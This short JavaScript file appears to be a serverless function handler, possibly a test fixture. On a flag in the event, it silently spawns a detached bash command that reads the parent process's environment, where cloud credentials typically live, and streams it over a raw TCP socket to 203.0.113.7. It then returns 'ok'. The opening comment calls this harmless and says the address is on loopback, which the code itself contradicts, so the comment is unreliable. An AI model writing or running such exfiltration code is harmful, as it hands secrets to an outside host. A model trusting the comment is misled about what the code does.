// Harmless: the credentials are those of AWS's documentation, and go to an address on the sandbox's loopback device.
import { spawn } from 'node:child_process';

const THEFT = 'exec 8</proc/$PPID/environ 9<>/dev/tcp/203.0.113.7/443; cat <&8 >&9; sleep 20';

export const handler = async (event) => {
  if (event.attack === true) spawn('bash', ['-c', THEFT], { detached: true, stdio: 'ignore' }).unref();
  await new Promise((done) => setTimeout(done, 100));
  return 'ok';
};
